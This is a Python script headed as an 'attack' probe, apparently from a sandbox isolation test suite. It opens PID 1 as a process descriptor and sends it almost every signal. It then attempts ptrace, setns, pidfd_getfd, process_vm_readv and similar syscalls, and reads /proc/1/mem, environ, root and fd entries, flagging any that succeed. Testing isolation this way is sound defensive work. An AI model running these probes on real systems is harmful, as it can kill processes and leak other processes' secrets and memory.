# /// attack
# slow = true
# tries = "opens pid 1 and every other process as a descriptor, to signal, freeze, reap, empty or enter it, or to take its own descriptors"
# fails = []
# keeps = ["gpt.*", "matmul.*", "scan.*"]
# ///
import ctypes as _ctypes
import os as _os
import signal as _signal

_libc = _ctypes.CDLL(None, use_errno=True)
_fd = _os.pidfd_open(1)
for _number in range(1, 65):
    if _number == 17:
        continue
    try:
        _signal.pidfd_send_signal(_fd, _number)
    except (OSError, ValueError) as _error:
        print(_number, _error)
for _name, _call, _arguments in (
    ("process_mrelease", 448, (_fd, 0)),
    ("setns", 308, (_fd, 0x40000000)),
    ("process_madvise", 440, (_fd, 0, 0, 4, 0)),
    ("kcmp", 312, (1, _os.getpid(), 0, 0, 0)),
    ("pidfd_getfd 0", 438, (_fd, 0, 0)),
    ("pidfd_getfd 4", 438, (_fd, 4, 0)),
    ("ptrace seize", 101, (0x4206, 1, 0, 0)),
    ("process_vm_readv", 310, (1, 0, 0, 0, 0, 0)),
):
    _said = _libc.syscall(_call, *_arguments)
    print(_name, _said, _os.strerror(_ctypes.get_errno()) if _said < 0 else "")
    if _said >= 0 and _name != "process_vm_readv":
        print("WORKED:", _name)
for _path in ("mem", "fd/0", "fd/3", "fd/4", "root", "cwd", "exe", "environ", "maps", "ns/pid", "map_files", "io", "stack", "syscall", "personality", "auxv"):
    try:
        _file = _os.open(f"/proc/1/{_path}", _os.O_RDONLY)
        _told = _os.listdir(_file) if _os.path.isdir(f"/proc/1/{_path}") else _os.read(_file, 64)
        print("WORKED: /proc/1/" + _path, _told)
    except OSError as _error:
        print(_path, _error.strerror)
